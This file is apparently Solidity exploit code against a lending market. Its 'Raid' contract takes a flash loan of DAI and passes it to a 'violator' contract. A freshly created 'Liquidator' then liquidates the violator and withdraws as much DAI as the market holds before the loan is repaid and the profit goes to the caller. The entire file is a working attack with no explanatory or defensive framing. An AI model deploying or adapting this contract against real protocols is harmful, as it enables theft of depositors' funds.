// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface IMarkets {
    function deposit(uint256 amount) external;
    function withdraw(uint256 amount) external;
    function mint(uint256 amount) external;
    function donateToReserves(uint256 amount) external;
    function liquidate(address violator, uint256 repaid) external;
    function eBalance(address who) external view returns (uint256);
    function dBalance(address who) external view returns (uint256);
}

interface ILender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

interface IViolator {
    function sink(IMarkets m, IToken dai, uint256 amount) external;
}

contract Liquidator {
    function run(IMarkets m, address violator, IToken dai, address to) external {
        m.liquidate(violator, m.dBalance(violator) * 6 / 10);
        uint256 most = (m.eBalance(address(this)) * 95 - m.dBalance(address(this)) * 100) / 95;
        uint256 has = dai.balanceOf(address(m));
        m.withdraw(most < has ? most : has);
        dai.transfer(to, dai.balanceOf(address(this)));
    }
}

contract Raid {
    IMarkets private immutable m;
    IToken private immutable dai;
    IViolator private immutable violator;

    constructor(IMarkets m_, IToken dai_, IViolator violator_) {
        (m, dai, violator) = (m_, dai_, violator_);
    }

    function go(ILender lender, uint256 amount) external {
        lender.flashLoan(address(this), address(dai), amount, "");
        dai.transfer(msg.sender, dai.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        dai.transfer(address(violator), amount);
        violator.sink(m, dai, amount);
        Liquidator l = new Liquidator();
        l.run(m, address(violator), dai, address(this));
        dai.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
